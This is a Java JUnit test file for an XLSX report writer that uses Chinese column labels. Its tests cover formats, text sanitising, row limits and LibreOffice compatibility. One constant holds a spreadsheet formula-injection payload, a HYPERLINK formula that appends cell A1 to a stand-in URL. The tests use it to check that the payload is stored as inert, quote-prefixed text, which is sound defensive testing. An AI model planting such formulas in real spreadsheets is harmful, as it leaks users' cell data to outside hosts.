package dev.manyi.reports.xlsx;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.manyi.reports.Machine;
import dev.manyi.reports.format.Format;
import dev.manyi.reports.format.Unit;
import dev.manyi.reports.xlsx.DataWorkbook.Line;
import dev.manyi.reports.xlsx.DataWorkbook.Names;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.TimeUnit;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DataWorkbookTest {
    private static final Locale CHINESE = Locale.forLanguageTag("zh-CN");
    private static final Names NAMES = new Names("数据", "说明");
    private static final List<DataColumn> COLUMNS = List.of(
            DataColumn.text("门店"),
            DataColumn.value("满意率", new Format(Unit.FRACTION, 1), CHINESE),
            DataColumn.difference("变化", new Format(Unit.POINTS, 1), CHINESE),
            DataColumn.moment("时间"),
            DataColumn.day("日期"),
            DataColumn.word("显著"));
    private static final String HOSTILE = "=HYPERLINK(\"http://x\"&A1,\"<b>点我</b>\")";

    @Test
    void numbersAreNumbersWithFormatsAndTextIsText() throws IOException {
        try (var workbook = open(file(
                List.of(
                        Arrays.asList(
                                "南京东路店",
                                0.42512345,
                                -2.0,
                                LocalDateTime.parse("2026-10-05T18:30:00"),
                                LocalDate.parse("2026-10-05"),
                                true),
                        Arrays.asList(HOSTILE, null, null, null, null, null)),
                List.of(new Line("指标", "净推荐值 NPS"), new Line("筛选", "-1+1"))))) {
            XSSFSheet data = workbook.getSheet("数据");
            assertEquals("满意率", data.getRow(0).getCell(1).getStringCellValue());
            Cell share = data.getRow(1).getCell(1);
            assertEquals(0.42512345, share.getNumericCellValue());
            assertEquals("0.0%", share.getCellStyle().getDataFormatString());
            assertEquals(
                    "+0.0;-0.0;0.0", data.getRow(1).getCell(2).getCellStyle().getDataFormatString());
            Cell time = data.getRow(1).getCell(3);
            assertEquals(LocalDateTime.parse("2026-10-05T18:30:00"), time.getLocalDateTimeCellValue());
            assertEquals("yyyy-mm-dd hh:mm:ss", time.getCellStyle().getDataFormatString());
            assertEquals(
                    LocalDateTime.parse("2026-10-05T00:00:00"),
                    data.getRow(1).getCell(4).getLocalDateTimeCellValue());
            assertTrue(data.getRow(1).getCell(5).getBooleanCellValue());

            Cell text = data.getRow(2).getCell(0);
            assertEquals(CellType.STRING, text.getCellType());
            assertEquals(HOSTILE, text.getStringCellValue());
            assertTrue(text.getCellStyle().getQuotePrefixed());
            // What is not there is no zero.
            assertEquals(null, data.getRow(2).getCell(1));

            assertTrue(data.getPaneInformation().isFreezePane());
            assertEquals(1, data.getPaneInformation().getHorizontalSplitPosition());
            assertEquals("A1:F3", data.getCTWorksheet().getAutoFilter().getRef());
            XSSFSheet about = workbook.getSheet("说明");
            assertEquals("净推荐值 NPS", about.getRow(0).getCell(1).getStringCellValue());
            assertTrue(about.getRow(1).getCell(1).getCellStyle().getQuotePrefixed());
        }
    }

    @Test
    void anyTextComesBackAsItWasOrSafe() throws IOException {
        List<String> texts = List.of("a\u0000b", "_x0041_", "行\r\n行", "  ", "😀𠮷", "]]>&amp;");
        List<String> shown = List.of("a\ufffdb", "_x0041_", "行\r\n行", "  ", "😀𠮷", "]]>&amp;");
        List<List<?>> rows = texts.stream().<List<?>>map(List::of).toList();
        try (var workbook = open(file(rows, List.of()))) {
            for (int i = 0; i < shown.size(); i++) {
                assertEquals(
                        shown.get(i),
                        workbook.getSheetAt(0).getRow(i + 1).getCell(0).getStringCellValue());
            }
        }
        try (var workbook = open(file(List.of(List.of("长".repeat(40_000))), List.of()))) {
            String cut = workbook.getSheetAt(0).getRow(1).getCell(0).getStringCellValue();
            assertEquals(32_767, cut.length());
            assertTrue(cut.endsWith("…"));
        }
    }

    @Test
    void manyColumnsHaveTheLettersThatExcelGivesThem() {
        SheetXml sheet = new SheetXml();
        assertEquals(
                List.of("A", "Z", "AA", "AZ", "BA", "ZZ", "AAA"),
                List.of(0, 25, 26, 51, 52, 701, 702).stream()
                        .map(sheet::letters)
                        .toList());
    }

    /** Nothing is kept: what has been handed out is as much as what was compressed. */
    @Test
    void rowsLeaveAsTheyCome() throws IOException {
        var counted = new OutputStream() {
            long bytes;

            @Override
            public void write(int b) {
                bytes++;
            }
        };
        DataWorkbook workbook = new DataWorkbook(counted, CHINESE, NAMES, COLUMNS);
        for (int i = 0; i < 20_000; i++) {
            workbook.row(List.of("店 " + Integer.toHexString(i * 7919), i / 3.0));
        }
        long before = counted.bytes;
        workbook.finish(List.of());
        assertTrue(before > 0.9 * counted.bytes, before + " of " + counted.bytes);
    }

    @Test
    void moreRowsThanExcelTakesAreRefused() throws IOException {
        DataWorkbook workbook =
                new DataWorkbook(OutputStream.nullOutputStream(), CHINESE, NAMES, List.of(DataColumn.number("n")));
        for (int i = 0; i < DataWorkbook.MOST_ROWS; i++) {
            workbook.row(List.of(1));
        }
        assertThrows(IllegalStateException.class, () -> workbook.row(List.of(1)));
    }

    @Test
    void theSameRowsAreTheSameBytesOnAnyMachine() throws Exception {
        List<List<?>> rows = List.of(List.of("店", 1.5));
        assertArrayEquals(file(rows, List.of()), Machine.in("America/New_York", "ar-EG", () -> file(rows, List.of())));
    }

    @Test
    void libreOfficeOpensIt(@TempDir Path folder) throws Exception {
        Path soffice = Path.of("/usr/bin/soffice");
        assumeTrue(Files.isExecutable(soffice), "needs LibreOffice");
        Path file = Files.write(
                folder.resolve("data.xlsx"),
                file(List.of(List.of("南京东路店", 0.425), List.of(HOSTILE, 1.0)), List.of(new Line("指标", "NPS"))));
        Process process = new ProcessBuilder(
                        soffice.toString(),
                        "-env:UserInstallation=" + folder.resolve("profile").toUri(),
                        "--headless",
                        "--convert-to",
                        "csv:Text - txt - csv (StarCalc):44,34,76",
                        "--outdir",
                        folder.toString(),
                        file.toString())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("log").toFile())
                .start();
        assertTrue(process.waitFor(120, TimeUnit.SECONDS), "LibreOffice did not end");
        assertEquals(
                "门店,满意率,变化,时间,日期,显著\n南京东路店,42.5%,,,,\n\"" + HOSTILE.replace("\"", "\"\"") + "\",100.0%,,,,\n",
                Files.readString(folder.resolve("data.csv"), StandardCharsets.UTF_8));
    }

    private static byte[] file(List<? extends List<?>> rows, List<Line> about) throws IOException {
        var bytes = new ByteArrayOutputStream();
        DataWorkbook workbook = new DataWorkbook(bytes, CHINESE, NAMES, COLUMNS);
        for (List<?> row : rows) {
            workbook.row(row);
        }
        workbook.finish(about);
        return bytes.toByteArray();
    }

    private static XSSFWorkbook open(byte[] file) throws IOException {
        return new XSSFWorkbook(new ByteArrayInputStream(file));
    }
}
